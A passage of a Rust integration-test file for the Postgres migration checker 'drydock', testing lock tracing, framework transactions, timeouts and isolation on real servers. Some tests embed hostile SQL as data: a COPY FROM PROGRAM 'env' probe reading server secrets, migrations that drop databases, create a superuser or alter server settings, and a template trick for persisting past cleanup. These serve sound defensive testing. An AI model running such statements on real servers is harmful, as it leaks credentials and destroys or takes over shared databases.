//! `drydock check` against real Postgres servers: the local provider (PostgreSQL binaries), the
//! docker provider (a real Docker engine through testcontainers) and the URL provider.
//!
//! Without PostgreSQL binaries or Docker, a developer's `cargo test` skips the tests that need
//! them and says so; under CI (`CI` set) they fail instead, since .ci/run provides both.

#[path = "support/git.rs"]
mod git_support;
#[path = "support/prerequisites.rs"]
mod prerequisites;
use git_support::git;
use prerequisites::{missing, no_local_postgres};
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_drydock");

/// The image for docker-provider tests, or `None` (skipped) when Docker or the image is absent.
fn docker_image() -> Option<String> {
    let image = std::env::var("DRYDOCK_TEST_IMAGE")
        .unwrap_or_else(|_| "drydock-standin/postgres:15".into());
    let present = Command::new("docker")
        .args(["image", "inspect", &image])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if present {
        Some(image)
    } else {
        missing(&format!("Docker with the image {image}"));
        None
    }
}

fn drydock(args: &[&str], cwd: &Path) -> Output {
    Command::new(BIN)
        .args(args)
        .current_dir(cwd)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

fn json(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}):\n{}\nstderr:\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn findings_of<'a>(report: &'a Value, rule: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

fn evidence<'a>(finding: &'a Value, kind: &str) -> Option<&'a Value> {
    finding["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == kind)
}

fn repo_with(files: &[(&str, &str)]) -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    write_migrations(t.path(), files);
    t
}

fn write_migrations(root: &Path, files: &[(&str, &str)]) {
    fs::create_dir_all(root.join("migrations")).unwrap();
    for (name, content) in files {
        fs::write(root.join("migrations").join(name), content).unwrap();
    }
}

/// A repository whose `main` holds `base` and whose work tree adds `change`.
fn repo_with_change(base: &[(&str, &str)], change: &[(&str, &str)]) -> tempfile::TempDir {
    let t = repo_with(base);
    git(t.path(), &["init", "-q", "-b", "main"]);
    git(t.path(), &["add", "."]);
    git(t.path(), &["commit", "-q", "-m", "base"]);
    write_migrations(t.path(), change);
    t
}

const ORDERS: &str =
    "CREATE TABLE orders (id int PRIMARY KEY, total numeric(10,2), note varchar(20));
INSERT INTO orders SELECT g, g * 1.5, 'n' FROM generate_series(1, 100) g;
CREATE INDEX orders_total_idx ON orders (total);
";

fn check(dir: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["check", "migrations", "--format", "json"];
    args.extend_from_slice(extra);
    drydock(&args, dir)
}

#[test]
fn traces_locks_and_rewrites_and_merges_them_with_static_findings() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_change(
        &[("001_orders.sql", ORDERS)],
        &[(
            "002_change.sql",
            "SET lock_timeout = '2s';
ALTER TABLE orders ALTER COLUMN total TYPE integer;
DO $$ BEGIN EXECUTE 'ALTER TABLE orders ALTER COLUMN id TYPE bigint'; END $$;
ALTER TABLE orders ALTER COLUMN note TYPE varchar(50);
CREATE TABLE customers (id int PRIMARY KEY);
CREATE INDEX customers_id_idx ON customers (id);
",
        )],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(1), "{report:#}");

    // The static finding for the type change carries what the trace saw; no second finding.
    let type_change = findings_of(&report, "column-type-change");
    assert_eq!(type_change.len(), 1, "{report:#}");
    let traced = evidence(type_change[0], "trace").expect("trace evidence");
    assert_eq!(traced["rewritten"], serde_json::json!(["public.orders"]));
    assert_eq!(traced["locks"][0]["mode"], "ACCESS EXCLUSIVE");
    assert_eq!(traced["locks"][0]["relation"], "public.orders");
    assert!(evidence(type_change[0], "static").is_some());

    // The DO block rewrote the table where no static rule could see it.
    let rewrite = findings_of(&report, "traced-table-rewrite");
    assert_eq!(rewrite.len(), 1, "{report:#}");
    assert_eq!(rewrite[0]["line"], 3);
    assert!(
        rewrite[0]["message"]
            .as_str()
            .unwrap()
            .contains("rewrote public.orders")
    );

    // varchar(20) -> varchar(50) rewrites nothing, and nothing claims it does; objects created
    // under review are not "existing".
    for f in report["findings"].as_array().unwrap() {
        let line = f["line"].as_u64().unwrap();
        assert!(
            line < 4,
            "unexpected finding on a safe statement: {f:#}\n{report:#}"
        );
    }
    let statements = report["directories"][0]["statements"].as_array().unwrap();
    let widen = statements.iter().find(|s| s["line"] == 4).unwrap();
    assert_eq!(widen["rewritten"], serde_json::json!([]));
    assert_eq!(widen["lock_timeout_set"], true);
    let index = statements.iter().find(|s| s["line"] == 6).unwrap();
    assert_eq!(
        index["locks"],
        serde_json::json!([]),
        "a table created under review"
    );
    let files = report["directories"][0]["files"].as_array().unwrap();
    assert_eq!(files.len(), 2);
    assert!(files.iter().all(|f| f["status"] == "applied"), "{files:?}");
}

#[test]
fn a_rejected_statement_is_a_finding_at_its_position_and_the_rest_is_not_applied() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with_change(
        &[("001_orders.sql", ORDERS)],
        &[
            (
                "002_bad.sql",
                "ALTER TABLE orders ADD COLUMN shipped boolean;\n\nUPDATE orders \
                    SET shipped = true,\n       weight = 1;\nALTER TABLE orders ADD \
                    COLUMN later int;\n",
            ),
            ("003_next.sql", "ALTER TABLE orders ADD COLUMN next int;\n"),
        ],
    );
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(1));
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    let f = failed[0];
    assert_eq!(f["file"], "migrations/002_bad.sql");
    // Postgres points at `weight`, on the statement's second line.
    assert_eq!(
        (f["line"].as_u64(), f["column"].as_u64()),
        (Some(4), Some(8))
    );
    let apply = evidence(f, "apply").unwrap();
    assert_eq!(apply["sqlstate"], "42703");
    let message = f["message"].as_str().unwrap();
    assert!(
        message.contains("column \"weight\" of relation \"orders\" does not exist"),
        "{message}"
    );
    assert!(
        message.contains("1 statement after it in this file was not applied"),
        "{message}"
    );
    assert!(
        message.contains("1 later migration was not applied"),
        "{message}"
    );

    let files = report["directories"][0]["files"].as_array().unwrap();
    let status = |name: &str| {
        files
            .iter()
            .find(|f| f["file"].as_str().unwrap().ends_with(name))
            .map(|f| f["status"].as_str().unwrap().to_string())
    };
    assert_eq!(status("001_orders.sql").as_deref(), Some("applied"));
    assert_eq!(status("002_bad.sql").as_deref(), Some("failed"));
    assert_eq!(status("003_next.sql").as_deref(), Some("not-applied"));
}

#[test]
fn framework_transactions_are_honoured() {
    if no_local_postgres() {
        return;
    }
    // golang-migrate sends each file as one implicit transaction, so CREATE INDEX CONCURRENTLY
    // fails; goose with NO TRANSACTION runs it fine.
    let t = repo_with(&[
        ("1_orders.up.sql", ORDERS),
        (
            "2_index.up.sql",
            "CREATE INDEX CONCURRENTLY orders_note_idx ON orders (note);\nSELECT 1;\n",
        ),
    ]);
    let out = check(
        t.path(),
        &[
            "--postgres",
            "local",
            "--migration-format",
            "golang-migrate",
        ],
    );
    let report = json(&out);
    let merged = findings_of(&report, "concurrently-in-transaction");
    assert_eq!(merged.len(), 1, "{report:#}");
    assert_eq!(evidence(merged[0], "apply").unwrap()["sqlstate"], "25001");
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "the static finding predicted the error: one finding, not two\n{report:#}"
    );

    // A file of one statement is sent alone: no implicit transaction around it.
    let t = repo_with(&[
        ("1_orders.up.sql", ORDERS),
        (
            "2_index.up.sql",
            "CREATE INDEX CONCURRENTLY orders_note_idx ON orders (note);\n",
        ),
    ]);
    let out = check(
        t.path(),
        &[
            "--postgres",
            "local",
            "--migration-format",
            "golang-migrate",
        ],
    );
    let report = json(&out);
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "{report:#}"
    );
    assert!(
        findings_of(&report, "concurrently-in-transaction").is_empty(),
        "{report:#}"
    );

    let t = repo_with(&[
        ("00001_orders.sql", &format!("-- +goose Up\n{ORDERS}")),
        (
            "00002_index.sql",
            "-- +goose NO TRANSACTION\n-- +goose Up\nCREATE INDEX \
                CONCURRENTLY orders_note_idx ON orders (note);\n",
        ),
    ]);
    let out = check(
        t.path(),
        &["--postgres", "local", "--migration-format", "goose"],
    );
    let report = json(&out);
    assert!(
        findings_of(&report, "migration-fails").is_empty(),
        "{report:#}"
    );
    let files = report["directories"][0]["files"].as_array().unwrap();
    assert!(files.iter().all(|f| f["status"] == "applied"), "{report:#}");
    let index = &report["directories"][0]["statements"].as_array().unwrap()[3];
    assert_eq!(
        index["locks_traced"], false,
        "cannot run in a transaction: timed only"
    );
}

/// What a run tells of a file holding CONCURRENTLY statements.
#[derive(Debug, PartialEq)]
enum Concurrently {
    /// It applies: the tool runs it outside any transaction.
    Applies,
    /// Postgres rejects it (25001), as it would under the tool: `concurrently-in-transaction`,
    /// with the apply error as evidence.
    Rejected,
    /// The tool refuses the file before running it: `mixed-transactional-statements`.
    Refused,
}

/// Each format's way of running a file without its transaction, applied through `drydock
/// check` on real Postgres: where the tool runs the CONCURRENTLY statements outside any
/// transaction they apply; where it still sends the file as one query (or does not see the
/// switch) Postgres rejects them, as in production.
#[test]
fn each_format_runs_concurrently_the_way_its_tool_does() {
    use Concurrently::*;
    if no_local_postgres() {
        return;
    }
    let two = "CREATE INDEX CONCURRENTLY orders_note_idx ON orders (note);\n\
        DROP INDEX CONCURRENTLY orders_total_idx;\n";
    let one = "CREATE INDEX CONCURRENTLY orders_note_idx ON orders (note);\n";
    let diesel_off = (
        "2024-01-02-000000_index/metadata.toml",
        "run_in_transaction = false\n",
    );
    // (format, base file and its head, the reviewed files, what happens)
    type Case<'a> = (
        &'a str,
        (&'a str, &'a str),
        Vec<(&'a str, String)>,
        Concurrently,
    );
    let cases: Vec<Case> = vec![
        // Flyway runs a file of non-transactional statements only without a transaction.
        (
            "flyway",
            ("V1__orders.sql", ""),
            vec![("V2__index.sql", two.into())],
            Applies,
        ),
        (
            "flyway",
            ("V1__orders.sql", ""),
            vec![(
                "V2__mixed.sql",
                format!("ALTER TABLE orders ADD COLUMN carrier text;\n{one}"),
            )],
            Refused,
        ),
        // Not among the statements Flyway runs outside a transaction.
        (
            "flyway",
            ("V1__orders.sql", ""),
            vec![(
                "V2__reindex.sql",
                "REINDEX INDEX CONCURRENTLY orders_total_idx;\n".into(),
            )],
            Rejected,
        ),
        // goose and Atlas, with their transaction off, run statement by statement.
        (
            "goose",
            ("00001_orders.sql", "-- +goose Up\n"),
            vec![(
                "00002_index.sql",
                format!("-- +goose NO TRANSACTION\n-- +goose Up\n{two}"),
            )],
            Applies,
        ),
        (
            "goose",
            ("00001_orders.sql", "-- +goose Up\n"),
            vec![(
                "00002_index.sql",
                format!("-- +goose no transaction\n-- +goose Up\n{one}"),
            )],
            Rejected,
        ),
        (
            "atlas",
            ("20240101000000_orders.sql", ""),
            vec![(
                "20240102000000_index.sql",
                format!("-- atlas:txmode none\n\n{two}"),
            )],
            Applies,
        ),
        (
            "atlas",
            ("20240101000000_orders.sql", ""),
            vec![(
                "20240102000000_index.sql",
                format!("-- atlas:txmode none\n{one}"),
            )],
            Rejected,
        ),
        // dbmate, sqlx, diesel and popx without their transaction still send one query.
        (
            "dbmate",
            ("20240101000000_orders.sql", "-- migrate:up\n"),
            vec![(
                "20240102000000_index.sql",
                format!("-- migrate:up transaction:false\n{one}-- migrate:down\n"),
            )],
            Applies,
        ),
        (
            "dbmate",
            ("20240101000000_orders.sql", "-- migrate:up\n"),
            vec![(
                "20240102000000_index.sql",
                format!("-- migrate:up transaction:false\n{two}-- migrate:down\n"),
            )],
            Rejected,
        ),
        (
            "sqlx",
            ("20240101000000_orders.sql", ""),
            vec![(
                "20240102000000_index.sql",
                format!("-- no-transaction\n{one}"),
            )],
            Applies,
        ),
        (
            "sqlx",
            ("20240101000000_orders.sql", ""),
            vec![(
                "20240102000000_index.sql",
                format!("-- no-transaction\n{two}"),
            )],
            Rejected,
        ),
        (
            "diesel",
            ("2024-01-01-000000_orders/up.sql", ""),
            vec![
                ("2024-01-02-000000_index/up.sql", one.into()),
                (diesel_off.0, diesel_off.1.into()),
            ],
            Applies,
        ),
        (
            "diesel",
            ("2024-01-01-000000_orders/up.sql", ""),
            vec![
                ("2024-01-02-000000_index/up.sql", two.into()),
                (diesel_off.0, diesel_off.1.into()),
            ],
            Rejected,
        ),
        (
            "popx",
            ("20240101000001_orders.postgres.up.sql", ""),
            vec![(
                "20240101000002_index.postgres.autocommit.up.sql",
                one.into(),
            )],
            Applies,
        ),
        (
            "popx",
            ("20240101000001_orders.postgres.up.sql", ""),
            vec![(
                "20240101000002_index.postgres.autocommit.up.sql",
                two.into(),
            )],
            Rejected,
        ),
        (
            "prisma",
            ("20240101000000_orders/migration.sql", ""),
            vec![("20240102000000_index/migration.sql", two.into())],
            Rejected,
        ),
    ];
    let mut failures = Vec::new();
    for (format, (base, head), reviewed, expected) in cases {
        let t = tempfile::tempdir().unwrap();
        let write = |name: &str, content: &str| {
            let path = t.path().join("migrations").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, content).unwrap();
        };
        write(base, &format!("{head}{ORDERS}"));
        git(t.path(), &["init", "-q", "-b", "main"]);
        git(t.path(), &["add", "."]);
        git(t.path(), &["commit", "-q", "-m", "base"]);
        for (name, content) in &reviewed {
            write(name, content);
        }
        let args = [
            "--base",
            "main",
            "--postgres",
            "local",
            "--migration-format",
            format,
        ];
        let report = json(&check(t.path(), &args));
        let rejected = findings_of(&report, "concurrently-in-transaction");
        let refused = findings_of(&report, "mixed-transactional-statements");
        let files = report["directories"][0]["files"].as_array().unwrap();
        let seen = if !findings_of(&report, "migration-fails").is_empty() {
            None
        } else if !refused.is_empty() && rejected.is_empty() {
            Some(Refused)
        } else if rejected.is_empty() && files.iter().all(|f| f["status"] == "applied") {
            Some(Applies)
        } else if refused.is_empty()
            // Static findings for each statement; the first carries the apply error.
            && rejected.first().and_then(|f| evidence(f, "apply")).is_some_and(|e| e["sqlstate"] == "25001")
        {
            Some(Rejected)
        } else {
            None
        };
        if seen.as_ref() != Some(&expected) {
            failures.push(format!(
                "{format} {}: expected {expected:?}, got {seen:?}:\n{report:#}",
                reviewed[0].0
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// An ory/popx directory keeps each version's file for every database side by side: only the
/// PostgreSQL file, or else the dialect-free one, runs; the others are not even read.
#[test]
fn a_popx_directory_applies_only_its_postgres_or_dialect_free_files() {
    if no_local_postgres() {
        return;
    }
    let mut files: Vec<(String, String)> = Vec::new();
    let mut add = |name: &str, sql: &str| files.push((name.to_string(), sql.to_string()));
    for (version, table) in [("20240101000001", "users"), ("20240101000002", "orders")] {
        // Each would fail on PostgreSQL if it ran.
        add(
            &format!("{version}_{table}.mysql.up.sql"),
            &format!("CREATE TABLE {table} (id INT AUTO_INCREMENT PRIMARY KEY) ENGINE=InnoDB;"),
        );
        add(
            &format!("{version}_{table}.sqlite3.up.sql"),
            &format!("CREATE TABLE {table} (id INTEGER PRIMARY KEY AUTOINCREMENT);"),
        );
        add(
            &format!("{version}_{table}.cockroach.up.sql"),
            &format!("CREATE TABLE {table} (id INT8 PRIMARY KEY) INTERLEAVE IN PARENT x (id);"),
        );
        for dialect in ["mysql.", "sqlite3.", "cockroach.", "postgres.", ""] {
            add(&format!("{version}_{table}.{dialect}down.sql"), "SELECT 1;");
        }
    }
    // Version 1 has a PostgreSQL file, which replaces the dialect-free one; version 2 has none.
    add(
        "20240101000001_users.postgres.up.sql",
        "CREATE TABLE users (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY);",
    );
    add("20240101000001_users.up.sql", "SELECT no_such_function();");
    add(
        "20240101000002_orders.up.sql",
        "CREATE TABLE orders (id bigint PRIMARY KEY, user_id bigint REFERENCES users);",
    );
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(name, sql)| (name.as_str(), sql.as_str()))
        .collect();
    let t = repo_with(&files);
    let out = check(t.path(), &["--postgres", "local"]);
    let report = json(&out);
    assert_eq!(report["directories"][0]["format"], "popx", "{report:#}");
    let applied: Vec<&str> = report["directories"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            assert_eq!(f["status"], "applied", "{report:#}");
            f["file"].as_str().unwrap()
        })
        .collect();
    assert_eq!(
        applied,
        [
            "migrations/20240101000001_users.postgres.up.sql",
            "migrations/20240101000002_orders.up.sql"
        ],
        "{report:#}"
    );
    for rule in ["migration-fails", "duplicate-version", "syntax-error"] {
        assert!(findings_of(&report, rule).is_empty(), "{rule}: {report:#}");
    }
}

#[test]
fn runaway_and_self_destructive_migrations_are_findings() {
    if no_local_postgres() {
        return;
    }
    let cases = [
        ("SELECT pg_sleep(60);", "statement timeout"),
        ("DO $$ BEGIN LOOP END LOOP; END $$;", "statement timeout"),
        (
            "SELECT pg_terminate_backend(pg_backend_pid());",
            "connection to Postgres was lost",
        ),
        (
            "DO $$ BEGIN EXECUTE format('DROP DATABASE %I', current_database()); END $$;",
            "Postgres rejected this statement",
        ),
    ];
    for (sql, expected) in cases {
        let t = repo_with(&[("001_x.sql", sql)]);
        let started = Instant::now();
        let out = check(
            t.path(),
            &["--postgres", "local", "--statement-timeout", "0.5"],
        );
        let report = json(&out);
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "{sql} was not cut short"
        );
        let failed = findings_of(&report, "migration-fails");
        assert_eq!(failed.len(), 1, "{sql}: {report:#}");
        let message = failed[0]["message"].as_str().unwrap();
        assert!(message.contains(expected), "{sql}: {message}");
        assert_eq!(out.status.code(), Some(1));
    }
}

#[test]
fn the_overall_timeout_cancels_a_statement_that_ignores_the_statement_timeout() {
    if no_local_postgres() {
        return;
    }
    let t = repo_with(&[(
        "001_x.sql",
        "SET statement_timeout = 0;\nSELECT pg_sleep(60);\n",
    )]);
    let out = check(t.path(), &["--postgres", "local", "--timeout", "1"]);
    let report = json(&out);
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    assert_eq!(failed[0]["line"], 2);
    assert!(
        failed[0]["message"]
            .as_str()
            .unwrap()
            .contains("overall time limit")
    );
}

/// A statement that catches `query_canceled` outlives both the statement timeout and the cancel
/// sent at the deadline: Drydock must end its session and still report, not wait forever.
#[test]
fn the_overall_timeout_ends_a_statement_that_catches_its_cancellation() {
    if no_local_postgres() {
        return;
    }
    const STUBBORN: &str = "DO $$ BEGIN LOOP BEGIN PERFORM pg_sleep(0.1); \
        EXCEPTION WHEN query_canceled THEN NULL; END; END LOOP; END $$;\n";
    // Alone (run bare, then read) and after another statement (in the framework's implicit
    // transaction, so rolled back).
    let cases = [
        STUBBORN.to_string(),
        format!("SET lock_timeout = '1s';\n{STUBBORN}"),
    ];
    for sql in cases {
        let t = repo_with(&[("001_x.sql", &sql)]);
        let tmp = tempfile::tempdir().unwrap();
        let child = Command::new(BIN)
            .args([
                "check",
                "migrations",
                "--format",
                "json",
                "--postgres",
                "local",
            ])
            .args(["--timeout", "5", "--statement-timeout", "2"])
            .current_dir(t.path())
            .env("NO_COLOR", "1")
            .env("TMPDIR", tmp.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let pid = child.id() as libc::pid_t;
        let (done, finished) = std::sync::mpsc::channel();
        std::thread::spawn(move || done.send(child.wait_with_output()));
        let out = match finished.recv_timeout(Duration::from_secs(60)) {
            Ok(out) => out.unwrap(),
            Err(_) => {
                unsafe {
                    libc::kill(pid, libc::SIGKILL);
                }
                panic!("{sql}: still running 60 s after a 5 s timeout");
            }
        };
        let report = json(&out);
        let failed = findings_of(&report, "migration-fails");
        assert_eq!(failed.len(), 1, "{sql}: {report:#}");
        let message = failed[0]["message"].as_str().unwrap();
        assert!(message.contains("overall time limit"), "{sql}: {message}");
        assert_eq!(out.status.code(), Some(1), "{sql}");
        assert_eq!(clusters_in(tmp.path()), Vec::<PathBuf>::new(), "{sql}");
    }
}

const LEAK_PROBE: &str = "CREATE TABLE leak (line text);
COPY leak FROM PROGRAM 'env';
DO $$ BEGIN RAISE EXCEPTION 'server environment: %', (SELECT string_agg(line, ' ') FROM leak); END $$;
";

/// Runs the leak probe with secrets in Drydock's environment; returns what the server saw.
fn server_environment(provider: &[&str]) -> String {
    let t = repo_with(&[("001_leak.sql", LEAK_PROBE)]);
    let mut args = vec!["check", "migrations", "--format", "json"];
    args.extend_from_slice(provider);
    let out = Command::new(BIN)
        .args(&args)
        .current_dir(t.path())
        .env("GITHUB_TOKEN", "ghp_canary_token_value")
        .env("DRYDOCK_SECRET_CANARY", "canary-value")
        .output()
        .unwrap();
    let report = json(&out);
    let failed = findings_of(&report, "migration-fails");
    assert_eq!(failed.len(), 1, "{report:#}");
    let message = failed[0]["message"].as_str().unwrap().to_string();
    assert!(message.contains("server environment:"), "{message}");
    message
}

#[test]
fn a_local_server_cannot_read_drydocks_environment() {
    if no_local_postgres() {
        return;
    }
    let seen = server_environment(&["--postgres", "local"]);
    assert!(seen.contains("PATH="), "the probe ran: {seen}");
    assert!(!seen.contains("ghp_canary_token_value"), "{seen}");
    assert!(!seen.contains("GITHUB_TOKEN"), "{seen}");
    assert!(!seen.contains("canary-value"), "{seen}");
}

#[test]
fn a_docker_server_cannot_read_drydocks_environment() {
    let Some(image) = docker_image() else { return };
    let seen = server_environment(&["--postgres", "docker", "--postgres-image", &image]);
    assert!(
        seen.contains("PGDATA=") || seen.contains("PATH="),
        "the probe ran: {seen}"
    );
    assert!(!seen.contains("ghp_canary_token_value"), "{seen}");
    assert!(!seen.contains("GITHUB_TOKEN"), "{seen}");
    assert!(!seen.contains("canary-value"), "{seen}");
}

#[test]
fn docker_provider_applies_and_removes_its_container() {
    let Some(image) = docker_image() else { return };
    let t = repo_with_change(
        &[("001_orders.sql", ORDERS)],
        &[(
            "002_index.sql",
            "CREATE INDEX orders_note_idx ON orders (note);\n",
        )],
    );
    let out = check(
        t.path(),
        &[
            "--base",
            "main",
            "--postgres",
            "docker",
            "--postgres-image",
            &image,
        ],
    );
    let report = json(&out);
    assert!(report["postgres"].as_str().unwrap().contains(&image));
    let index = findings_of(&report, "create-index-without-concurrently");
    assert_eq!(index.len(), 1, "{report:#}");
    assert_eq!(
        evidence(index[0], "trace").unwrap()["locks"][0]["mode"],
        "SHARE"
    );
    // The run's container is gone (it was labelled with the run's pid; any left would show).
    assert_eq!(containers_left(), Vec::<String>::new());
}

/// Containers Drydock started (by label) that still exist, of runs that have ended.
fn containers_left() -> Vec<String> {
    let out = Command::new("docker")
        .args([
            "ps",
            "-a",
            "--filter",
            "label=dev.drydock.pid",
            "--format",
            "{{.ID}} {{.Label \"dev.drydock.pid\"}}",
        ])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|line| {
            // Tests run in parallel: a container of a run still going is not a leftover.
            let pid = line.split_whitespace().nth(1).unwrap_or("");
            !Path::new("/proc").join(pid).exists()
        })
        .map(str::to_string)
        .collect()
}

#[test]
fn docker_faults_are_clear_errors() {
    let Some(image) = docker_image() else { return };
    let t = repo_with(&[("001_x.sql", "SELECT 1;")]);
    // A socket with no daemon behind it.
    let out = Command::new(BIN)
        .args(["check", "migrations", "--postgres", "docker"])
        .current_dir(t.path())
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no Docker daemon answers"), "{stderr}");

    // A socket file left behind by a daemon that died: nothing listens on it.
    let stale = tempfile::tempdir().unwrap();
    let socket = stale.path().join("docker.sock");
    drop(std::os::unix::net::UnixListener::bind(&socket).unwrap());
    let out = Command::new(BIN)
        .args(["check", "migrations", "--postgres", "docker"])
        .current_dir(t.path())
        .env("DOCKER_HOST", format!("unix://{}", socket.display()))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("no Docker daemon answers"), "{stderr}");

    // auto falls back to the local binaries when Docker is not there.
    let out = Command::new(BIN)
        .args([
            "check",
            "migrations",
            "--postgres",
            "auto",
            "--format",
            "json",
        ])
        .current_dir(t.path())
        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        json(&out)["postgres"]
            .as_str()
            .unwrap()
            .starts_with("local PostgreSQL")
    );

    // An image that is neither present nor pullable (no registry is reachable here).
    let missing_image = format!("{image}-does-not-exist");
    let out = drydock(
        &[
            "check",
            "migrations",
            "--postgres",
            "docker",
            "--postgres-image",
            &missing_image,
        ],
        t.path(),
    );
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains(&missing_image), "{stderr}");
}

/// Starts a stand-in Postgres container as "an existing server"; returns (container id, port).
fn existing_server(image: &str) -> (String, u16) {
    let out = Command::new("docker")
        .args([
            "run",
            "-d",
            "--rm",
            "-e",
            "POSTGRES_PASSWORD=s3cret-pw",
            "-p",
            "127.0.0.1::5432",
            image,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let id = String::from_utf8_lossy(&out.stdout).trim().to_string();
    let port = Command::new("docker")
        .args(["port", &id, "5432/tcp"])
        .output()
        .unwrap();
    let port: u16 = String::from_utf8_lossy(&port.stdout)
        .lines()
        .next()
        .and_then(|l| l.rsplit(':').next())
        .and_then(|p| p.trim().parse().ok())
        .expect("mapped port");
    // Ready once the real server (after initialisation) accepts connections.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let ready = Command::new("psql")
            .args([
                "-h",
                "127.0.0.1",
                "-p",
                &port.to_string(),
                "-U",
                "postgres",
                "-c",
                "SELECT 1",
            ])
            .env("PGPASSWORD", "s3cret-pw")
            .env("PGCONNECT_TIMEOUT", "2")
            .output()
            .is_ok_and(|o| o.status.success());
        let logs = Command::new("docker").args(["logs", &id]).output().unwrap();
        let started_twice = String::from_utf8_lossy(&logs.stderr)
            .contains("database system is ready to accept connections");
        if ready && started_twice {
            break;
        }
        assert!(Instant::now() < deadline, "the server did not start");
        std::thread::sleep(Duration::from_millis(200));
    }
    (id, port)
}

fn databases(port: u16) -> Vec<String> {
    server_query(port, "SELECT datname FROM pg_database ORDER BY 1")
}

/// The rows of `sql` on the server of `existing_server`, as the superuser `postgres`.
fn server_query(port: u16, sql: &str) -> Vec<String> {
    let out = Command::new("psql")
        .args([
            "-h",
            "127.0.0.1",
            "-p",
            &port.to_string(),
            "-U",
            "postgres",
            "-At",
            "-c",
        ])
        .arg(sql)
        .env("PGPASSWORD", "s3cret-pw")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect()
}

/// A server given by URL may be shared: the migrations run as a throwaway role, so a
/// migration can neither drop another database, nor create a superuser, nor change the
/// server's settings (as the URL's superuser each went through and persisted). The run says
/// the role refused it and what to set for a server of Drydock's own, and leaves no role.
#[test]
fn the_url_provider_runs_migrations_as_a_throwaway_role() {
    let Some(image) = docker_image() else { return };
    let (id, port) = existing_server(&image);
    server_query(port, "CREATE DATABASE victim");
    let before = databases(port);
    let url = format!("postgres://postgres:s3cret-pw@127.0.0.1:{port}/postgres");
    for (attack, persisted) in [
        (
            "DROP DATABASE victim;",
            "SELECT 'dropped' WHERE NOT EXISTS \
                (SELECT FROM pg_database WHERE datname = 'victim')",
        ),
        (
            "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x';",
            "SELECT rolname FROM pg_roles WHERE rolname = 'evil'",
        ),
        (
            "ALTER SYSTEM SET work_mem = '77MB';",
            "SELECT setting FROM pg_file_settings WHERE name = 'work_mem'",
        ),
    ] {
        let t = repo_with(&[]);
        // golang-migrate wraps nothing in a transaction: each statement runs as written.
        write_migrations(
            t.path(),
            &[
                ("000001_attack.up.sql", attack),
                ("000001_attack.down.sql", "SELECT 1;"),
            ],
        );
        let out = check(t.path(), &["--postgres", &url]);
        let report = json(&out);
        assert_eq!(
            server_query(port, persisted),
            Vec::<String>::new(),
            "{attack}"
        );
        assert!(
            report["postgres"]
                .as_str()
                .unwrap()
                .contains("migrations run as a throwaway role"),
            "{report:#}"
        );
        let refused = &report["directories"][0]["base_unbuilt"];
        assert!(
            refused["error"]
                .as_str()
                .unwrap()
                .contains("SQLSTATE 42501"),
            "{attack}: {report:#}"
        );
        assert!(
            refused["help"]
                .as_str()
                .unwrap()
                .contains("url-role = \"given\""),
            "{report:#}"
        );
        assert_eq!(out.status.code(), Some(2), "not checked, not passed");
    }
    // What the role may do to its own database to outlive the run: make it a template (which
    // cannot be dropped), keeping the role with it.
    let t = repo_with(&[(
        "001_stay.sql",
        "CREATE TABLE stash (secret text);\n\
         DO $$ BEGIN EXECUTE format('ALTER DATABASE %I IS_TEMPLATE true', current_database()); \
         END $$;\n",
    )]);
    let out = check(t.path(), &["--postgres", &url]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(databases(port), before, "Drydock's databases are gone");
    assert_eq!(
        server_query(
            port,
